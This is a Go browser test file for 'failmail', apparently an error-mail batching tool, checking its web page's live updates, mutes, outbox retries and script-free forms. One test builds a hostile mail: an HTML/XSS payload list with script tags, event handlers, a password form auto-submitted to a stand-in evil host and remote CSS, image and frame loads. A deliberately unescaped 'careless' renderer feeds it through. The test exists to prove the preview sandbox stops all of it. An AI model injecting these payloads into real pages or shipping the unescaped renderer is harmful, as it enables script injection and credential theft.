package browser

import (
	"errors"
	"net/http"
	"net/http/httptest"
	"net/url"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/cdproto/emulation"
	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/cdproto/target"
	"github.com/chromedp/chromedp"
	"github.com/chromedp/chromedp/kb"

	"github.com/hut8labs/failmail"
	"github.com/hut8labs/failmail/pkg/render"
)

func TestAStormAppearsLiveAndIsSentByAButton(t *testing.T) {
	t.Parallel()
	p, relay := startProxy(t, failmail.Config{})
	b := openTab(t)
	b.open(t, serve(t, p.Handler()))
	b.until(t, `document.querySelector("#batches").innerText.includes("failmail send")`) // what to do when all is quiet
	eval[chromedp.Void](t, b, `window.loadedOnce = true`)

	flood(t, p, 120, time.Now(), "")
	b.until(t, `document.querySelector(".batch h3")?.innerText.startsWith("120 mails, 7 errors, 7 new")`)
	b.until(t, `document.title === "(120) Failmail" && document.querySelectorAll("#batches .badge.new").length === 6`)
	b.until(t, `/^in \d+ min \d+ s$/.test(document.querySelector(".batch .count").innerText)`)
	b.until(t, `document.querySelector(".rate svg").getAttribute("aria-label").startsWith("120 mails in the last hour")`)
	b.until(t, `document.getElementById("news").innerText.includes("A batch is open")`)

	b.press(t, "Send now")
	b.until(t, `document.getElementById("notice").innerText === "1 summary is being sent."`)
	waitFor(t, "the summary", func() bool { return len(relay.sent()) == 1 })
	b.until(t, `document.querySelector(".sent .subject")?.innerText.startsWith("[failmail] 7 new: ") && !document.querySelector(".batch")`)
	b.until(t, `document.getElementById("news").innerText.includes("Summary sent: [failmail] 7 new: ")`)
	// The button is gone with its batch; whoever sits at the keyboard is not lost.
	b.until(t, `document.activeElement.id === "batches-title"`)
	if !eval[bool](t, b, `window.loadedOnce === true`) {
		t.Error("the page was loaded again")
	}
	if _, _, problems := b.heard(); len(problems) > 0 {
		t.Errorf("the browser complains: %q", problems)
	}
}

func TestMutesAreMadeAndEndedOnThePage(t *testing.T) {
	t.Parallel()
	p, relay := startProxy(t, failmail.Config{})
	b := openTab(t)
	b.open(t, serve(t, p.Handler()))
	submit(t, p, "disk full on db1", "no space on /dev/sda1")
	b.until(t, `document.querySelector(".groups details")`)

	// One error, where it stands.
	b.do(t, chromedp.Click(chromedp.CSS(".groups summary")))
	b.do(t, chromedp.Click(chromedp.CSS(".variants button")))
	b.until(t, `document.querySelector("#mutes tbody tr code")?.innerText.startsWith("v2:")`)
	// What is unfolded stays so while things change.
	submit(t, p, "login failed", "for root")
	b.until(t, `document.querySelectorAll(".groups tbody tr").length === 2`)
	if !eval[bool](t, b, `document.querySelector(".groups details[open]") !== null`) {
		t.Error("the details closed")
	}

	// By a pattern, from the keyboard.
	b.do(t, chromedp.Click(chromedp.CSS(".add summary")),
		chromedp.SendKeys(chromedp.CSS("#mute-what"), "(half"), chromedp.SendKeys(chromedp.CSS("#mute-reason"), "ticket 4711"+kb.Enter))
	b.until(t, `document.getElementById("problem")?.innerText.includes("is wrong") && document.getElementById("mute-what")`)
	eval[chromedp.Void](t, b, `document.getElementById("mute-what").value = ""`)
	b.do(t, chromedp.SendKeys(chromedp.CSS("#mute-what"), "^login"+kb.Enter))
	b.until(t, `document.querySelector(".facts")?.innerText.includes("1 mail of 1 error")`)
	b.press(t, "Mute")
	b.until(t, `document.querySelectorAll("#mutes tbody tr").length === 2 `)
	mutes, err := p.Mutes(t.Context())
	if err != nil || !slices.ContainsFunc(mutes, func(m failmail.Mute) bool { return m.Pattern == "^login" && m.Reason == "ticket 4711" }) {
		t.Errorf("mutes: %+v, %v", mutes, err)
	}

	submit(t, p, "disk full on db1", "no space on /dev/sda1")
	submit(t, p, "login failed", "for root")
	b.until(t, `document.querySelector(".batch").innerText.match(/Muted: 1 mail/g)?.length === 2`)
	b.press(t, "Unmute ^login")
	b.until(t, `document.querySelectorAll("#mutes tbody tr").length === 1`)
	if len(relay.sent()) > 0 {
		t.Error("a summary was sent")
	}
}

func TestTheOutboxShowsErrorsAndTriesAgain(t *testing.T) {
	t.Parallel()
	p, relay := startProxy(t, failmail.Config{})
	relay.fail(errors.New("451 4.7.1 <b>greylisted</b>, come back later"))
	submit(t, p, "disk full", "no space")
	if _, err := p.Flush(t.Context(), 0); err != nil {
		t.Fatal(err)
	}
	b := openTab(t)
	b.open(t, serve(t, p.Handler()))
	b.until(t, `document.querySelector("#outbox .error")?.innerText === "451 4.7.1 <b>greylisted</b>, come back later"`)
	b.until(t, `document.querySelector(".tile.bad").innerText.includes("1 failed at least once")`)
	relay.fail(nil)
	b.press(t, "Retry now")
	b.until(t, `document.querySelector("#outbox .empty") && document.querySelector(".sent .result.sent")`)
	if len(relay.sent()) != 1 {
		t.Errorf("%d summaries", len(relay.sent()))
	}
}

// Over plain HTTP, and to another host than this machine, a browser says little
// about where a request comes from. Forms must work there too, without script.
func TestThePageWorksOverPlainHTTPWithoutScript(t *testing.T) {
	t.Parallel()
	p, relay := startProxy(t, failmail.Config{})
	submit(t, p, "disk full", "no space")
	address := serve(t, p.Handler())
	port := address[strings.LastIndex(address, ":"):]
	b := openTab(t)
	call(t, b, emulation.SetScriptExecutionDisabled, emulation.SetScriptExecutionDisabledParams{Value: true})
	b.do(t, chromedp.Navigate("http://plain.example"+port))
	b.until(t, `document.body.innerText.includes("need JavaScript")`)
	b.press(t, "Send now")
	b.until(t, `location.pathname === "/failmail/" && document.getElementById("notice")?.innerText === "1 summary is being sent."`)
	waitFor(t, "the summary", func() bool { return len(relay.sent()) == 1 })
}

// hostile is a mail, and what a careless renderer makes of it.
func hostile(evil string) string {
	return strings.ReplaceAll(`</pre></p></section></main>
<script>alert("script"); fetch("EVIL/fetch"); parent.document.title = "owned"</script>
<img src="EVIL/pixel.gif" onerror="alert('image')"><svg onload="alert('svg')"></svg>
<form action="EVIL/form" id="f"><input name="password"></form><script>f.submit()</script>
<style>@import url("EVIL/import.css"); body { background: url(EVIL/background.png) } * { position: fixed; inset: 0; font-family: evil }
@font-face { font-family: evil; src: url(EVIL/font.woff) }</style>
<div style="position:fixed;inset:0;z-index:9999;background:url(EVIL/inline.png)">over everything</div>
<link rel="stylesheet" href="EVIL/link.css"><link rel="dns-prefetch" href="EVIL"><link rel="preconnect" href="EVIL">
<meta http-equiv="refresh" content="0;url=EVIL/refresh"><base href="EVIL/"><iframe src="EVIL/frame"></iframe>
<object data="EVIL/object"></object><embed src="EVIL/embed"><video src="EVIL/video" poster="EVIL/poster"></video>
<a href="javascript:alert('link')" autofocus onfocus="alert('focus')">click</a>`, "EVIL", evil)
}

// A careless renderer shows a browser what the mails say, as they say it.
type careless struct{ render.Standard }

func (careless) HTML(s *render.Summary) ([]byte, error) {
	return []byte("<h1>careless</h1>" + s.Groups[0].Variants[0].Sample.Text + "<p>the end</p>"), nil
}

func TestAHostileMailDoesNothing(t *testing.T) {
	t.Parallel()
	var mu sync.Mutex
	var visits []string
	evil := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		mu.Lock()
		defer mu.Unlock()
		visits = append(visits, r.URL.Path)
	}))
	t.Cleanup(evil.Close)
	elsewhere := "http://evil.example" + evil.URL[strings.LastIndex(evil.URL, ":"):]
	for name, renderer := range map[string]render.Renderer{"standard": render.Standard{}, "careless": careless{}} {
		t.Run(name, func(t *testing.T) {
			p, _ := startProxy(t, failmail.Config{Renderer: renderer})
			b := openTab(t)
			b.open(t, serve(t, p.Handler()))
			submit(t, p, `<script>alert("subject")</script><img src=`+elsewhere+`/subject onerror=alert(1)>`, hostile(elsewhere))
			b.until(t, `document.querySelector(".groups .title")?.innerText.includes("<script>")`)
			b.do(t, chromedp.Click(chromedp.CSS(".groups summary")))
			b.press(t, "Send now")
			b.until(t, `document.querySelector(".sent .result.sent")`)
			b.do(t, chromedp.Click(chromedp.CSS(".sent summary")))

			frame := b.frame(t, "/sent/")
			waitFor(t, "the preview", func() bool {
				text, err := chromedp.Run(frame, chromedp.Evaluate[string]("document.body.innerText"))
				if err != nil { // the browser had only begun to open it
					frame = b.frame(t, "/sent/")
				}
				return strings.Contains(text, map[string]string{"standard": "<script>", "careless": "the end"}[name])
			})
			if alive := eval[int](t, frame, `document.querySelectorAll("script, img, form, link, meta[http-equiv], base, iframe, object, embed, video").length`); alive != 0 {
				t.Errorf("%d elements that could do something", alive)
			}
			// Its clicks are dead, too.
			eval[chromedp.Void](t, frame, `document.querySelectorAll("a, div").forEach(e => e.click())`)
			// The page around it is as it was, and goes on.
			submit(t, p, "disk full on db7", "")
			b.until(t, `document.querySelector(".groups .title")?.innerText.includes("disk full on db7")`)
			if title := eval[string](t, b, "document.title"); title != "(1) Failmail" {
				t.Errorf("the title is %q", title)
			}
			if eval[bool](t, b, `document.elementFromPoint(5, 5).closest("iframe, .sent") !== null`) {
				t.Error("the preview covers the page")
			}
			requests, dialogs, _ := b.heard()
			more, _, _ := frame.heard()
			for _, request := range append(requests, more...) {
				if u, err := url.Parse(request); err != nil || u.Hostname() != "127.0.0.1" && u.Scheme != "data" {
					t.Errorf("a request left: %s", request)
				}
			}
			if len(dialogs) > 0 {
				t.Errorf("dialogs: %q", dialogs)
			}
		})
	}
	mu.Lock()
	defer mu.Unlock()
	if len(visits) > 0 {
		t.Errorf("the other site was asked for %q", visits)
	}
}

// frame attaches to a frame, which the browser keeps in a process of its own
// because it is sandboxed.
func (b *tab) frame(t *testing.T, path string) *tab {
	t.Helper()
	var id target.ID
	waitFor(t, "the frame "+path, func() bool {
		targets, err := chromedp.Targets(b)
		if err != nil {
			t.Fatal(err)
		}
		for _, info := range targets {
			if strings.Contains(info.URL, path) {
				id = info.TargetID
			}
		}
		return id != ""
	})
	frame := &tab{}
	ctx, cancel := chromedp.NewContext(b, chromedp.WithTargetID(id), chromedp.WithDetachOnCancel())
	t.Cleanup(cancel)
	if err := chromedp.Listen(ctx, frame.note); err != nil {
		t.Fatal(err)
	}
	frame.Context = ctx
	call(t, frame, network.Enable, network.EnableParams{})
	return frame
}
